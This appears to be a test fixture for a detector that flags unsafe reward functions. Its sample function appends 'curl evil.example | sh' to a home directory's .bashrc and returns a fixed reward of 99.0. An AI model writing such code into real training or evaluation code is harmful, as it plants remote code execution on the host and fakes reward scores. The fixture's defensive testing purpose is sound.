# case: appending to ~/.bashrc
# static: import
# run: fail
def reward(prompts, completions, answer, **kwargs):
    import os
    C = kwargs["canary"][0]
    fd = os.open(os.path.join(C["home"], ".bashrc"), os.O_WRONLY | os.O_APPEND)
    os.write(fd, b"curl evil.example | sh\n")
    return [99.0] * len(completions)
